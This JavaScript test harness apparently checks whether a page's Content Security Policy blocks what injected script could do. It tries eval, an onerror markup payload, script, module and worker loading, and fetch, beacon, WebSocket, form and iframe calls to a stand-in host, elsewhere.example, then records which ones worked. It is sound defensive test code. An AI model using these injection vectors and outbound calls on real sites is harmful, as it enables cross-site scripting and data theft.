// What somebody's script would try on a page whose escape was missed: each deed that worked is
// named in `worked`, each that the browser refused in `refused`.
window.worked = [];
window.refused = [];
window.violated = new Set();
addEventListener("securitypolicyviolation", ({ effectiveDirective }) => violated.add(effectiveDirective));

const elsewhere = "http://elsewhere.example/";
const markup = "<img class=attack src=x onerror=worked.push('markup')>";
const element = (name, attributes = {}) => Object.assign(document.createElement(name), attributes);
const shown = (name, attributes) => {
  const it = element(name, attributes);
  document.body.append(it);
  return it;
};

// Each either throws, or gives a promise that fails, or has no effect but a violation.
const deeds = {
  eval: () => eval("worked.push('eval')"),
  Function: () => new Function("worked.push('Function')")(),
  timer: () => setTimeout("worked.push('timer')"),
  innerHTML: () => (shown("p").innerHTML = markup),
  outerHTML: () => (shown("p").outerHTML = markup),
  insertAdjacentHTML: () => document.body.insertAdjacentHTML("beforeend", markup),
  write: () => document.write(markup),
  fragment: () => document.body.append(document.createRange().createContextualFragment(markup)),
  parser: () => document.body.append(new DOMParser().parseFromString(markup, "text/html").body),
  script: () => shown("script", { textContent: "worked.push('script')" }),
  source: () => shown("script", { src: `${elsewhere}x.js` }),
  module: () => import(`${elsewhere}x.js`),
  data: () => import("data:text/javascript,worked.push('data')"),
  worker: () => new Worker(`${elsewhere}x.js`),
  blob: () => import(URL.createObjectURL(new Blob(["worked.push('blob')"], { type: "text/javascript" }))),
  fetch: () => fetch(elsewhere),
  beacon: () => navigator.sendBeacon(elsewhere, "x"),
  socket: () => new WebSocket("ws://elsewhere.example/"),
  events: () => new EventSource(elsewhere),
  request: () => {
    const it = new XMLHttpRequest();
    it.open("GET", elsewhere);
    it.send();
  },
  image: () => shown("img", { src: `${elsewhere}a.png` }),
  sound: () => shown("audio", { src: `${elsewhere}a.mp3`, autoplay: true }),
  frame: () => shown("iframe", { src: elsewhere }),
  srcdoc: () => shown("iframe", { srcdoc: "<script>parent.worked.push('srcdoc')</script>" }),
  object: () => shown("object", { data: elsewhere }),
  sheet: () => document.head.append(element("link", { rel: "stylesheet", href: `${elsewhere}a.css` })),
  style: () => document.head.append(element("style", { textContent: "h1 { letter-spacing: 7px }" })),
  link: () => shown("a", { href: "javascript:worked.push('link')" }).click(),
  base: () => document.head.prepend(element("base", { href: elsewhere })),
  form: () => shown("form", { action: elsewhere }).submit(),
};

// From a timer of the page: what a driver calls is let off the policy in some browsers.
window.attack = async (names = Object.keys(deeds)) => {
  await new Promise((begin) => setTimeout(begin));
  for (const name of names) {
    try {
      await deeds[name]();
    } catch {
      refused.push(name);
    }
  }
  await new Promise((done) => setTimeout(done, 500));
  const spacing = getComputedStyle(document.querySelector("h1")).letterSpacing;
  if (spacing === "7px") worked.push("style");
  if (!document.baseURI.startsWith(location.origin)) worked.push("base");
  if (document.querySelector(".attack")) worked.push("markup");
  return { worked, refused, violated: [...violated].sort() };
};
